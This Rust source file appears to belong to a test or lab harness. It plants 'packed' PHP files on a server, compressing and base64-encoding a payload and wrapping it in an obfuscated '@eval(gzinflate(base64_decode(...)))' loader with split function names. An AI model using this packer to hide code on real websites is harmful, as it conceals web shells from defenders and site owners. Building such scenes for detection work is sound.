//! Planted PHP for scenes: packed on the spot the way such files are, so that the repository holds it readable.

use super::scene::Scene;
use anyhow::Result;

impl Scene {
    /// Writes `payload` to `path`, packed; `KEY` in it becomes the MD5 sum of `key`.
    pub(super) fn packed(&self, path: &str, payload: &str, key: &str) -> Result<()> {
        self.server.write("/tmp/payload", payload, 0o600)?;
        self.server.sh(&format!(
            "mkdir -p $(dirname {path}) && php -r '$p=str_replace(\"KEY\",md5(\"{key}\"),file_get_contents(\"/tmp/payload\"));$p=base64_encode(gzdeflate($p));\
             $o=\"<?php\\n\\$f=implode(\\\"\\\",[\\\"bas\\\",\\\"e64_de\\\",\\\"code\\\"]);\\$i=\\\"gzin\\\".\\\"flate\\\";\\n@eval(\\$i(\\$f(\\x27\".chunk_split($p,80,\"\\n\").\"\\x27)));\\n\";\
             file_put_contents(\"{path}\",$o);' && rm /tmp/payload"
        ))?;
        Ok(())
    }
}
